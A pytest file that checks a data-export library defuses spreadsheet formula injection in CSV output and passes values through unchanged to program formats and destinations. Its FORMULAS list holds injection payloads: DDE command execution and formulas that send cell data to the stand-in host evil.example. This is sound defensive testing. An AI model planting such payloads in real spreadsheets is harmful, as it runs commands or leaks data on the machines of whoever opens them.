"""Texts that a spreadsheet would run: harmless in files for people, unaltered for destinations and programs."""

import base64
import csv
import json
from decimal import Decimal
from urllib.parse import unquote

import polars as pl
import pytest

from personas_kit.activation.exports import export
from personas_kit.destinations import DESTINATIONS, Computation
from tests.destinations.conftest import batch_of, connect

FORMULAS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    "=WEBSERVICE(A1)",
    "+1+1",
    "+49 170 1234567",
    "-1+1",
    "-2+3+cmd|'/c calc'!A0",
    "-",
    "@SUM(1+1)",
    "@ann",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\uff1d1+1",  # the same signs in full width
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '=1+1",=2+2',
    "=1;=2",
    "=" + "1" * 40_000,
]
PLAIN = ["ann", "a=b", "1-1", "jane@example.com", "'quoted", " =1", "", "é", "100%", "u_1;u_2"]


def written(frame, tmp_path):
    file = tmp_path / "out.csv"
    export([frame], file)
    csv.field_size_limit(1_000_000)
    with file.open(newline="", encoding="utf-8") as opened:
        return list(csv.reader(opened))


@pytest.mark.parametrize("text", FORMULAS, ids=lambda text: repr(text[:20]))
@pytest.mark.parametrize("dtype", [pl.String, pl.Categorical, pl.Enum], ids=str)
def test_a_formula_becomes_a_text(tmp_path, text, dtype):
    kind = pl.Enum([text]) if dtype is pl.Enum else dtype()
    frame = pl.DataFrame({"user_id": pl.Series([text], dtype=kind), "value": [1]})

    assert written(frame, tmp_path) == [["user_id", "value"], [f"'{text}", "1"]]


@pytest.mark.parametrize("text", [text for text in FORMULAS if ";" not in text], ids=lambda text: repr(text[:20]))
def test_a_formula_within_a_list_becomes_a_text(tmp_path, text):
    lines = written(pl.DataFrame({"user_id": ["u1"], "accounts": [["a", text, "b"]]}), tmp_path)

    assert lines[1] == ["u1", f"a;'{text};b"]


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_stay(tmp_path, text):
    assert written(pl.DataFrame({"user_id": [text]}), tmp_path)[1:] in ([[text]], [[]])


@pytest.mark.parametrize(
    ("values", "written_as"),
    [
        ([-1, 2], ["-1", "2"]),
        ([-1.5, 2.0], ["-1.5", "2.0"]),
        ([Decimal("-1.50")], ["-1.50"]),
        ([True, False], ["true", "false"]),
        ([None, "x"], ["", "x"]),
    ],
)
def test_numbers_stay_numbers_and_nothing_stays_nothing(tmp_path, values, written_as):
    lines = written(pl.DataFrame({"user_id": ["u"] * len(values), "value": values}), tmp_path)

    assert [line[1] for line in lines[1:]] == written_as


@pytest.mark.parametrize("ending", ["parquet", "ndjson"])
def test_files_for_programs_are_unaltered(tmp_path, ending):
    file = tmp_path / f"out.{ending}"
    export([pl.DataFrame({"user_id": FORMULAS})], file)

    read = pl.read_parquet(file) if ending == "parquet" else pl.read_ndjson(file)
    assert read["user_id"].to_list() == FORMULAS


@pytest.mark.parametrize("slug", sorted(DESTINATIONS))
def test_destinations_get_what_the_warehouse_has(slug, monkeypatch):
    monkeypatch.setenv("DESTINATION_CANARY", "made-up")
    connection, text = connect(slug), "=cmd|'/c calc'!A0"
    for call in sorted(connection.calls - {"list"}):
        line = {"user_id": text, "account_id": text, "change": "enter", "value": "true", "message_id": "m"}
        line |= {f"id_{kind}": text for kind in connection.identifiers(call)}
        for request in connection.requests(call, batch_of([line]), Computation("vips", "account_audience", "Vips")):
            body = request.content.decode().replace("+", " ") if b"%" in request.content else request.content.decode()
            inside = [base64.b64decode(each["Data"]).decode() for each in records(request)]
            seen = " ".join([unquote(request.url), unquote(body), *inside])

            assert text.lower() in seen.lower() or slug == "slack"  # a digest is about nobody
            assert f"'{text}" not in seen


def records(request):
    """Those of Amazon's streams, which are packed once more."""
    body = json.loads(request.content) if request.content.startswith(b'{"') else {}
    return [each for each in body.get("Records", ()) if "Data" in each]
